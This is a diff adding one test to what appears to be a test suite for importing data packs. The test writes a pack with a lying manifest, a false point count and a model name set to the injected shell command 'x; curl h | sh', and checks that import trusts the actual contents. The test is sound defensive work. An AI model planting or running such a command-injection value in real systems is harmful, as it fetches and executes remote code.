@@ -219,6 +219,27 @@ describeOnEachDatabase('a pack', (_open, place) => {
     })
   })
 
+  test('is told and kept as what it brings, not as what it says of itself', async () => {
+    const lying = join(folder, 'lying.parquet')
+    const reader = await from.openPack(pack, { signal })
+    const writer = await createPack(lying)
+    let [points, embeddings] = [0, 0]
+    for await (const rows of reader.rows()) {
+      await writer.write(rows)
+      points += rows.length
+      embeddings += rows.filter(({ embedding }) => embedding !== null).length
+    }
+    const { region, ...manifest } = reader.manifest
+    const model = { ...region.model, name: 'x; curl h | sh' }
+    await writer.finish({ ...manifest, pointCount: 9, region: { ...region, model } }, null)
+    await reader.close()
+    const read = await importRegion(to, { path: lying, name: 'honest' }, quiet)
+    expect(read).toMatchObject({ pointCount: points, embeddingCount: embeddings })
+    expect(embeddings).toBeGreaterThan(0)
+    const { card } = await to.encoder('overhead')
+    expect((await findRegion(to.db, 'honest')).model.name).toBe(card.name)
+  })
+
   test('whose import is stopped leaves no region, whose export is stopped no file', async () => {
     const controller = new AbortController()
     const stop = { signal: controller.signal, onProgress: () => controller.abort() }
